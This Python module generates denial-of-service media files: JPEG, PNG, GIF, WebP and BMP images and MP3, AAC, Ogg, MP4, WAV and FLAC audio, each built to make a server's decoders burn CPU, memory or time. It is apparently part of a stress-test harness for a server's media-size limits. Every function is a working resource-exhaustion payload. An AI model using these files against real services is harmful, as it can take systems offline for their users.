"""Media files that cost their receiver far more than their sender; `attacks.py` sends them to a server."""

import io
import struct
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from typing import Final

import numpy as np
import soundfile
from PIL import Image

MAX_BYTES: Final = 64 * 2**20  # the server's --max-media-bytes


@dataclass(frozen=True)
class AttackFile:
    """A kind of file.

    Attributes:
        modality: `image` or `audio`.
        build: returns its content.
    """

    modality: str
    build: Callable[[], bytes]


def jpeg_of_scans() -> bytes:
    """Repeat the smallest scan of a progressive JPEG of 8000x8000 px 1,200 times."""
    data = encode_image(Image.new("RGB", (8000, 8000), (90, 120, 30)), "JPEG", progressive=True, quality=50)
    first, *others = data[:-2].split(b"\xff\xda")
    scans = [b"\xff\xda" + scan for scan in others]
    return first + b"".join(scans) + min(scans, key=len) * 1200 + data[-2:]


def jpeg_of_100_scans() -> bytes:
    """Return the same with as many scans as the server allows."""
    data = encode_image(coarse_image(8000, 8000), "JPEG", progressive=True, quality=50)
    last = data[data.rindex(b"\xff\xda") : -2]
    return data[:-2] + last * (100 - data.count(b"\xff\xda")) + data[-2:]


def jpeg_of_exif() -> bytes:
    """Return 6 MB of small Exif segments, which Pillow joins in quadratic time."""
    return with_jpeg_segments(b"\xff\xe1" + struct.pack(">H", 28) + b"Exif\0\0" + bytes(20), 6_000_000)


def jpeg_of_comments() -> bytes:
    """Return 60 MB of empty comments."""
    return with_jpeg_segments(b"\xff\xfe\0\2", 60_000_000)


def png_of_chunks() -> bytes:
    """Return 60 MB of empty chunks behind the pixels."""
    data = encode_image(Image.new("RGB", (4, 4)), "PNG")
    return data[:-12] + png_chunk(b"prVt", b"") * 5_000_000 + data[-12:]


def png_of_64_mib() -> bytes:
    """Return noise that fills the largest file that the server takes."""
    pixels = np.random.default_rng(0).integers(0, 256, (4700, 4700, 3), dtype=np.uint8)
    data = encode_image(Image.fromarray(pixels), "PNG", compress_level=1)
    return data[:-12] + png_chunk(b"prVt", bytes(MAX_BYTES - len(data) - 12)) + data[-12:]


def png_of_8000_px() -> bytes:
    """Return the largest picture that the server decodes, in 200 KB."""
    return encode_image(Image.new("RGB", (8000, 8000)), "PNG")


def gif_of_frames() -> bytes:
    """Return a million frames."""
    data = encode_image(Image.new("P", (4, 4)), "GIF")
    frame = data.index(b",", 13)
    return data[:frame] + data[frame:-1] * 1_000_000 + b";"


def gif_of_comments() -> bytes:
    """Return 12 million comments in front of the picture."""
    data = encode_image(Image.new("P", (4, 4)), "GIF")
    frame = data.index(b",", 13)
    return data[:frame] + b"!\xfe\1a\0" * 12_000_000 + data[frame:]


def webp_of_8000_px() -> bytes:
    """Return an animation of 8000x8000 px in 150 bytes; WebP needs the most memory of all formats."""
    first, second = (Image.new("RGBA", (8000, 8000), (red, 2, 3, 100)) for red in (1, 9))
    return encode_image(first, "WEBP", save_all=True, append_images=[second], lossless=True, quality=0, method=0)


def bmp_of_single_pixels() -> bytes:
    """Return a run-length encoding whose runs are one pixel long, which Pillow decodes in Python."""
    num_bytes = 4 * 2**20 - 1078
    head = struct.pack("<2sIHHIIiiHHIIiiII", b"BM", 0, 0, 0, 1078, 40, 8000, 8000, 1, 8, 1, num_bytes, 1, 1, 256, 0)
    return head + bytes(1024) + b"\1\0" * (num_bytes // 2)


def mp3_of_damaged_frames() -> bytes:
    """Return 2.5 million frames of 24 bytes that cannot be decoded."""
    return (b"\xff\xf3\x14\xc0" + b"\xff" * 20) * 2_500_000


def mp3_of_silent_frames() -> bytes:
    """Return frames of 24 bytes that last longer together than the server allows."""
    return (b"\xff\xf3\x14\xc0" + bytes(20)) * 340_000


def id3_and_ff() -> bytes:
    """Return an empty ID3 tag and 8 MB of 0xff."""
    return b"ID3\4\0\0\0\0\0\0" + b"\xff" * 8_000_000


def id3_tags() -> bytes:
    """Return 6 million ID3 tags."""
    return b"ID3\4\0\0\0\0\0\0" * 6_000_000


def aac_of_damaged_frames() -> bytes:
    """Return 8.5 million ADTS frames of 7 bytes."""
    return b"\xff\xf1\x50\x40\0\xff\xfc" * 8_500_000


def ogg_of_hours() -> bytes:
    """Return an hour of silence in Opus."""
    return encode_audio(np.zeros(3600 * 8000, np.float32), 8000, "OGG", "OPUS")


def ogg_of_hours_that_claims_seconds() -> bytes:
    """Return twenty minutes of silence whose last page claims to be at one second."""
    data = bytearray(encode_audio(np.zeros(1200 * 8000, np.float32), 8000, "OGG", "OPUS"))
    last = data.rindex(b"OggS")
    data[last + 6 : last + 14] = (48_000).to_bytes(8, "little")
    data[last + 22 : last + 26] = ogg_checksum(bytes(data[last:]))
    return bytes(data)


def ogg_of_streams() -> bytes:
    """Return 10,000 chained streams of ten milliseconds."""
    return encode_audio(np.zeros(160, np.float32), 16000, "OGG") * 10_000


def mp4_of_boxes() -> bytes:
    """Return 7.5 million empty boxes."""
    return b"\0\0\0\x14ftypM4A \0\0\0\0M4A " + b"\0\0\0\x08free" * 7_500_000


def wav_of_chunks() -> bytes:
    """Return 7.5 million empty chunks in front of the samples."""
    data = encode_audio(np.zeros(800, np.int16), 8000, "WAV")
    return data[:12] + b"junk\0\0\0\0" * 7_500_000 + data[12:]


def flac_of_blocks() -> bytes:
    """Return 15 million empty metadata blocks."""
    data = encode_audio(np.zeros(8000, np.int16), 8000, "FLAC")
    return data[:42] + b"\1\0\0\0" * 15_000_000 + data[42:]


def encode_image(image: Image.Image, format: str, **options: object) -> bytes:
    """Return an image as a file."""
    file = io.BytesIO()
    image.save(file, format, **options)
    return file.getvalue()


def encode_audio(samples: "np.typing.NDArray[np.generic]", rate: int, format: str, subtype: str | None = None) -> bytes:
    """Return samples as a file."""
    file = io.BytesIO()
    soundfile.write(file, samples, rate, format=format, subtype=subtype)
    return file.getvalue()


def coarse_image(width: int, height: int) -> Image.Image:
    """Return an image of random squares."""
    squares = np.random.default_rng(0).integers(0, 256, (height // 16, width // 16, 3), dtype=np.uint8)
    return Image.fromarray(squares).resize((width, height), Image.Resampling.NEAREST)


def with_jpeg_segments(segment: bytes, num_bytes: int) -> bytes:
    """Return a small JPEG with a segment repeated at its start."""
    data = encode_image(Image.new("RGB", (64, 64)), "JPEG")
    return data[:2] + segment * (num_bytes // len(segment)) + data[2:]


def png_chunk(kind: bytes, content: bytes) -> bytes:
    """Return one chunk of a PNG."""
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def ogg_checksum(page: bytes) -> bytes:
    """Return the checksum of an Ogg page: CRC-32 with the polynomial 0x04c11db7, neither reflected nor inverted."""
    crc = 0
    for byte in page[:22] + bytes(4) + page[26:]:
        crc ^= byte << 24
        for _ in range(8):
            crc = (crc << 1 ^ (0x04C11DB7 if crc & 0x80000000 else 0)) & 0xFFFFFFFF
    return crc.to_bytes(4, "little")


FILES: Final[Mapping[str, AttackFile]] = {
    build.__name__: AttackFile(modality, build)
    for modality, builds in {
        "image": (
            *(jpeg_of_scans, jpeg_of_100_scans, jpeg_of_exif, jpeg_of_comments, png_of_chunks, png_of_64_mib),
            *(png_of_8000_px, gif_of_frames, gif_of_comments, webp_of_8000_px, bmp_of_single_pixels),
        ),
        "audio": (
            *(mp3_of_damaged_frames, mp3_of_silent_frames, id3_and_ff, id3_tags, aac_of_damaged_frames, ogg_of_hours),
            *(ogg_of_hours_that_claims_seconds, ogg_of_streams, mp4_of_boxes, wav_of_chunks, flac_of_blocks),
        ),
    }.items()
    for build in builds
}
